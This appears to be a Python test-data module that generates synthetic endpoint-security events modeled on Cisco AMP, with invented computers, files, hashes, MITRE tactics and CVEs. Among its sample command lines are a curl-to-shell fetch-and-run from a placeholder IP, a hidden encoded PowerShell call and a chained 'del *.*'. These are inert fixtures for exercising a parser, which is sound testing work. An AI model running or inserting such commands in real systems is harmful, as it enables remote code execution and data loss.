"""What synthetic events are made of: computers, files, tactics and the rest, with every trap of the real ones.

The shapes are those of Cisco's events; every name, address and hash is invented.  Parts are drawn once and then
shared between events, as one computer has many events: whoever gets them must not change them.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable
from random import Random
from typing import Any
from urllib.parse import quote

Part = dict[str, Any]

CONSOLE_HOSTS = ("api.amp.cisco.com", "api.eu.amp.cisco.com", "api.apjc.amp.cisco.com")
HOSTNAMES = (
    *("DESKTOP-7Q2F1KD", "srv-mail-01.corp.example", "Demo_AMP_Threat_Audit", "kiosk"),
    *("Büro-PC-7", "财务-电脑", "Olga’s MacBook Pro", "ПК-бухгалтерия", "レジ🛒1", "مكتب"),
)
USERS = (
    *("johndoe", "CORP\\svc_backup", "o'neil@CORP.EXAMPLE", "u@corp.example"),
    *("Jürgen Groß", "Zoë", "用户", "Łukasz", "root", "NT AUTHORITY\\SYSTEM"),
)
FILE_NAMES = (
    "SqGGuYXyy.exe",
    "invoice (2).pdf.exe",
    "libssl.so.1",
    "Résumé.docm",
    "发票.js",
    "a&b;c.ps1",
    "setup.msi",
)
PROGRAMS = ("svchost.exe", "explorer.exe", "WINWORD.EXE", "chrome.exe", "bash", "launchd")
DETECTIONS = (
    "W32.Overdrive.RET",
    "Auto.1201E5BDEC.in07.Talos",
    "W32.GenericKD:Gen.20a2.1201",
    "Eicar-Test-Signature",
)
DISPOSITIONS = ("Malicious", "Clean", "Unknown", "Blacklisted")
SEVERITIES = ("Low", "Medium", "High", "Critical")
OPERATING_SYSTEMS = ("Windows 10, SP 0.0 (Build 19042.867)", "OSX 11.2.3", "Linux 4.18")
COMMAND_LINES = (
    "powershell.exe -NoP -W Hidden -Enc SQBFAFgA",
    '"C:\\Program Files\\a b\\c.exe" /s "%TEMP%\\x y.dll"',
    "/bin/sh -c 'curl -s http://203.0.113.7/x | sh' # ünïcödé",
    "cmd /c echo ^\t\x1b[31m&& del *.*",
)
FILE_PATH_STYLES: tuple[Callable[[str], str], ...] = (
    lambda name: f"\\\\?\\C:\\Users\\Zoë\\{name}",
    lambda name: f"C:\\Windows\\Temp\\{name}",
    lambda name: f"/C:/ProgramData/{name}",
    lambda name: f"file:///C%3A/Users/Public/{quote(name)}",
)

TACTICS = (("TA0001", "Initial Access"), ("TA0002", "Execution"), ("TA0003", "Persistence"), ("TA0040", "Impact"))
TECHNIQUES = (("T1059.001", "PowerShell"), ("T1204", "User Execution"), ("T1486", "Data Encrypted for Impact"))
ERRORS = ((3221225506, "Access denied"), (2147500037, "Delete pending"), (5, "Cannot delete"), (0, ""))
INDICATORS = (
    ("W32.PowerShell.Empire", "PowerShell ran a script that was hidden in its command line."),
    ("Linux.Cryptominer.ioc", "A process spoke to a mining pool…"),
    ("W32.SuspiciousDownload.ioc", "A file was fetched from a host with a poor “reputation”."),
)
VULNERABLE = (("Adobe Flash Player", "11.5.502.146"), ("Oracle Java(TM) Platform SE", "7.0:update_4"))


class Vocabulary:
    """Parts drawn from ``random``: the same for the same seed."""

    def __init__(self, random: Random) -> None:
        self._random = random
        self.computers = [self._computer(hostname) for hostname in HOSTNAMES * 5]
        self.files = [self._file() for _ in range(60)]

    def guid(self) -> str:
        """A random GUID."""
        return str(uuid.UUID(int=self._random.getrandbits(128), version=4))

    def hash(self, bits: int) -> str:
        """Hexadecimal digits, mostly in lower case."""
        digits = f"{self._random.getrandbits(bits):0{bits // 4}x}"
        return digits.upper() if self._random.random() < 0.3 else digits

    def ip(self, *, can_be_empty: bool = False) -> str:
        """An IPv4 or IPv6 address, or the empty one that some computers report."""
        if can_be_empty and self._random.random() < 0.2:
            return ""
        if self._random.random() < 0.2:
            return f"2001:db8::{self._random.getrandbits(16):x}"
        return ".".join(str(self._random.randrange(1, 255)) for _ in range(4))

    def computer(self, *, detailed: bool = False) -> Part:
        """One of the organisation's computers; ``detailed`` with what only few kinds of event tell of it."""
        computer = self._random.choice(self.computers)
        if not detailed:
            return computer
        return computer | {
            "operating_system": self._random.choice(OPERATING_SYSTEMS),
            "internal_ips": [self.ip(), self.ip()],
            "is_compromised": self._random.random() < 0.5,
            "risk_score": self._random.randrange(1001),
            "policy": {"guid": self.guid(), "name": self._random.choice(("Audit", "Protect", "Schutz – Büro"))},
            "isolation": {"available": True, "status": self._random.choice(("isolated", "not_isolated"))},
        }

    def file(self, *, attacked: bool = False) -> Part:
        """A file; ``attacked`` with the details of an exploit."""
        file = self._random.choice(self.files)
        if not attacked:
            return file
        details = {
            "application": self._random.choice(PROGRAMS),
            "attacked_module": "C:\\Windows\\System32\\kernel32.dll",
            "base_address": f"0x{self._random.getrandbits(32):08X}",
            "suspicious_files": [FILE_PATH_STYLES[1](name) for name in FILE_NAMES[:2]],
        }
        return file | {"attack_details": details}

    def network(self) -> Part:
        """A connection that was seen, with the program behind it."""
        return {
            "dirty_url": f"http://{self.ip()}/{quote(self._random.choice(FILE_NAMES))}?q=%22ü%22",
            "remote_ip": self.ip(),
            "remote_port": self._random.randrange(1, 65536),
            "local_ip": self.ip(),
            "local_port": self._random.randrange(1024, 65536),
            "nfm": {"direction": "Outgoing connection from", "protocol": self._random.choice(("TCP", "UDP"))},
            "parent": self._parent(),
        }

    def tactics(self, *, as_objects: bool = False) -> list[Any]:
        """Tactics of MITRE ATT&CK: bare ids, or described."""
        chosen = self._random.sample(TACTICS, 2)
        if not as_objects:
            return [code for code, _ in chosen]
        return [self._described(code, name, "tactics") for code, name in chosen]

    def techniques(self, *, as_objects: bool = False) -> list[Any]:
        """Techniques of MITRE ATT&CK: bare ids, or described, with nulls."""
        if not as_objects:
            return [code for code, _ in self._random.sample(TECHNIQUES, 2)]
        return [
            self._described(code, name, "techniques")
            | {
                "tactics_names": "Execution, Impact",
                "platforms": "Linux, macOS, Windows",
                "permissions": "User, Administrator",
                "data_sources": "Process monitoring, File monitoring",
                "system_requirements": requirement,
            }
            for (code, name), requirement in zip(TECHNIQUES, (None, "A shell", None), strict=True)
        ]

    def vulnerabilities(self) -> list[Part]:
        """Several for one program, which only the first of them names; scores are text."""
        name, version = self._random.choice(VULNERABLE)
        found = [self._vulnerability() for _ in range(self._random.randrange(2, 9))]
        return [{"name": name, "version": version, **found[0]}, *found[1:]]

    def _vulnerability(self) -> Part:
        cve = f"CVE-20{self._random.randrange(10, 25)}-{self._random.randrange(1, 99999):04d}"
        score = f"{self._random.randrange(10, 101) / 10}"
        return {"cve": cve, "score": score, "url": f"https://cve.example/cvename.cgi?name={cve}"}

    def _described(self, code: str, name: str, kind: str) -> Part:
        return {
            "name": f"{code}: {name}",
            "description": f"<p>How adversaries get to {name.lower()} — in two lines.\n</p>",
            "external_id": code,
            "mitre_name": kind.removesuffix("s"),
            "mitre_url": f"https://attack.example/{kind}/{code.replace('.', '/')}",
        }

    def _computer(self, hostname: str) -> Part:
        guid, group = self.guid(), self.guid()
        links = f"https://{self._random.choice(CONSOLE_HOSTS)}/v1"
        computer = {
            "connector_guid": guid,
            "hostname": hostname,
            "external_ip": self.ip(),
            "active": self._random.random() < 0.9,
            "network_addresses": [
                {"ip": self.ip(can_be_empty=True), "mac": self._mac()} for _ in range(self._random.randrange(1, 4))
            ],
            "links": {
                "computer": f"{links}/computers/{guid}",
                "trajectory": f"{links}/computers/{guid}/trajectory",
                "group": f"{links}/groups/{group}",
            },
        }
        if self._random.random() < 0.5:
            computer["user"] = self._random.choice(USERS)
        return computer

    def _mac(self) -> str:
        octets = [f"{self._random.randrange(256):02x}" for _ in range(6)]
        return self._random.choice((":", "-")).join(octets)

    def _identity(self, *, complete: bool) -> Part:
        identity = {"sha256": self.hash(256)}
        return identity | {"sha1": self.hash(160), "md5": self.hash(128)} if complete else identity

    def _file(self) -> Part:
        complete = self._random.random() < 0.5
        file: Part = {
            "disposition": self._random.choice(DISPOSITIONS),
            "identity": self._identity(complete=complete),
        }
        if self._random.random() < 0.8:
            name = self._random.choice(FILE_NAMES)
            file |= {"file_name": name, "file_path": self._random.choice(FILE_PATH_STYLES)(name)}
        if self._random.random() < 0.6:
            file["parent"] = self._parent()
        return file

    def _parent(self) -> Part:
        return {
            "process_id": self._random.randrange(1 << 22),
            "disposition": self._random.choice(DISPOSITIONS),
            "file_name": self._random.choice(PROGRAMS),
            "identity": self._identity(complete=True),
        }
